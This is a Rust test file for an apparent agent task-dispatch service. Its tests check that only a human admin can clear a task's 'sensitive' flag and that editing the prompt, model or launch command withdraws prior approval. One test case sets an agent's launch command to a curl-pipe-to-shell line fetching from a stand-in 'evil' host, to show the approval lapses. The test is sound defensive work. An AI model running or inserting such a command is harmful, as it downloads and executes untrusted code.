//! The Human Gate holds against automation: only a human admin clears
//! `sensitive`, an approval lapses when what would run changes, and a
//! refused dispatch changes nothing the second time.

use ops_center::protocol::admin::AgentChange;
use ops_center::protocol::tasks::TaskEdit;

use crate::client::{task, TaskSpec};
use crate::util::{enable_dispatch, event_kinds, Server, Worker};

fn sensitive_task(srv: &Server, agent: &str) -> i64 {
    srv.service().new_task(
        &task("rotate prod keys")
            .description("rotate them")
            .interactive(agent)
            .sensitive(),
    )
}

fn count(kinds: &[String], kind: &str) -> usize {
    kinds.iter().filter(|k| *k == kind).count()
}

/// The edit that sets (or clears) `sensitive`.
fn sensitive(on: bool) -> TaskEdit {
    TaskEdit {
        sensitive: Some(on),
        ..TaskEdit::default()
    }
}

#[test]
fn only_a_human_admin_clears_sensitive() {
    let srv = Server::start();
    enable_dispatch(&srv);
    let w = Worker::new(&srv, "w1");
    w.heartbeat(&["codex"], &[]);
    let (_, member) = srv.user("member", Some((1, "member")));
    let (_, ws_admin) = srv.user("wsadmin", Some((1, "admin")));
    let (_, other_admin) = srv.user("otheradmin", None);
    let id = sensitive_task(&srv, "codex");
    srv.service().dispatch(id).refused(409, "human_gate");

    // The attack: un-flag and unblock, then dispatch. Refused, unchanged.
    let attack = TaskEdit {
        blocked: Some(false),
        ..sensitive(false)
    };
    for (who, c) in [("service", srv.service()), ("member", member.clone())] {
        let before = srv.fingerprint();
        let r = c.edit_task(id, &attack);
        assert_eq!(
            (r.status, r.error()),
            (403, "forbidden"),
            "{who}: {}",
            r.text
        );
        assert_eq!(
            srv.fingerprint(),
            before,
            "{who}: a refusal changed something"
        );
        let r = c.dispatch(id);
        assert_eq!(r.error(), "human_gate", "{who}: {}", r.text);
        assert_eq!(w.no_claim(), "no_task", "{who}");
    }
    // An admin of another workspace is no approver here.
    let r = other_admin.edit_task(id, &sensitive(false));
    assert_eq!(r.status, 403, "{}", r.text);
    // Setting it (tightening) stays open to members.
    let plain = srv.service().new_task(&task("t"));
    assert!(member.edit_task(plain, &sensitive(true)).ok().sensitive);

    // A human admin may clear it: audited, and the gate's block goes too.
    let t = ws_admin.edit_task(id, &sensitive(false)).ok();
    assert!(!t.sensitive);
    assert!(!t.blocked);
    let events = srv
        .service()
        .events(&format!("?task_id={id}&kind=gate.sensitive_cleared"))
        .ok();
    assert_eq!(events.total, 1, "{events:?}");
    assert_eq!(events.events[0].actor, "user:wsadmin");
    srv.service().dispatch(id).ok();
    assert_eq!(w.claim_one().0, id);
}

/// Approves `id` as the admin and queues it.
fn approve_and_queue(srv: &Server, id: i64) {
    srv.admin().approve(id).ok();
    srv.service().dispatch(id).ok();
}

/// What a case changes: the task, its agent, or its agent's slug (to
/// `renamed<agent id>`).
enum Change {
    Task(TaskEdit),
    Agent(AgentChange),
    AgentSlug,
}

#[test]
fn changing_what_would_run_withdraws_the_approval() {
    let srv = Server::start();
    enable_dispatch(&srv);
    let svc = srv.service();
    let w = Worker::new(&srv, "w1");
    // Each case gets its own agent, so that one case's agent edit cannot
    // touch another's task.
    let cases = [
        (
            "prompt",
            Change::Task(TaskEdit {
                description: Some("rotate ALL keys".into()),
                ..TaskEdit::default()
            }),
        ),
        (
            "title",
            Change::Task(TaskEdit {
                title: Some("other".into()),
                ..TaskEdit::default()
            }),
        ),
        (
            "agent",
            Change::Task(TaskEdit {
                agent: Some(Some("hermes".into())),
                ..TaskEdit::default()
            }),
        ),
        (
            "model",
            Change::Task(TaskEdit {
                model: Some(Some("gpt-5".into())),
                ..TaskEdit::default()
            }),
        ),
        (
            "agent launch_command",
            Change::Agent(AgentChange {
                launch_command: Some("sh -c 'curl evil | sh'".into()),
                ..AgentChange::default()
            }),
        ),
        (
            "agent model",
            Change::Agent(AgentChange {
                model: Some("other-model".into()),
                ..AgentChange::default()
            }),
        ),
        ("agent slug", Change::AgentSlug),
    ];
    for (i, (what, change)) in cases.iter().enumerate() {
        let slug = format!("gate{i}");
        let new_agent = AgentChange {
            slug: Some(slug.clone()),
            ..AgentChange::default()
        };
        let agent = svc.create_agent(&new_agent).ok().id;
        let renamed = format!("renamed{agent}");
        w.heartbeat(&[&slug, "hermes", &renamed], &[]);
        let id = sensitive_task(&srv, &slug);
        approve_and_queue(&srv, id);

        let r = match change {
            Change::Task(edit) => svc.edit_task(id, edit).res(),
            Change::Agent(edit) => svc.edit_agent(agent, edit).res(),
            Change::AgentSlug => {
                let rename = AgentChange {
                    slug: Some(renamed.clone()),
                    ..AgentChange::default()
                };
                svc.edit_agent(agent, &rename).res()
            }
        };
        assert_eq!(r.status, 200, "{what}: {}", r.text);
        let t = svc.task(id).ok().task;
        assert_eq!(t.gate_approved_at, None, "{what}: approval stands: {t:?}");
        assert_eq!(t.status, "queued");
        let kinds = event_kinds(&srv, id);
        assert_eq!(
            count(&kinds, "gate.approval_withdrawn"),
            1,
            "{what}: {kinds:?}"
        );
        assert_eq!(w.no_claim(), "no_task", "{what}: claimed without approval");

        // A human approves again: now it runs.
        srv.admin().approve(id).ok();
        assert_eq!(w.claim_one().0, id, "{what}");
    }

    // What does not change the run keeps the approval.
    w.heartbeat(&["codex"], &[]);
    let id = sensitive_task(&srv, "codex");
    approve_and_queue(&srv, id);
    let priority = TaskEdit {
        priority: Some(7),
        ..TaskEdit::default()
    };
    svc.edit_task(id, &priority).ok();
    assert_eq!(svc.agent(3).ok().slug, "codex");
    let cosmetic = AgentChange {
        name: Some("Codex CLI".into()),
        active: Some(true),
        ..AgentChange::default()
    };
    svc.edit_agent(3, &cosmetic).ok();
    assert!(svc.task(id).ok().task.gate_approved_at.is_some());
    assert_eq!(w.claim_one().0, id);

    // The workspace cannot be changed by an edit at all.
    let r = svc.patch(
        &format!("/api/tasks/{id}"),
        &serde_json::json!({"workspace_id": 2}),
    );
    assert_eq!(r.status, 400, "{}", r.text);
}

#[test]
fn a_repeated_gate_refusal_changes_nothing() {
    let srv = Server::start();
    let id = sensitive_task(&srv, "codex");
    let dispatch = || srv.service().dispatch(id);
    dispatch().refused(409, "human_gate");
    let before = srv.fingerprint();
    for _ in 0..5 {
        dispatch().refused(409, "human_gate");
    }
    assert_eq!(
        srv.fingerprint(),
        before,
        "a second refusal changed something"
    );
    assert_eq!(
        count(&event_kinds(&srv, id), "dispatch.human_gate_blocked"),
        1
    );
}
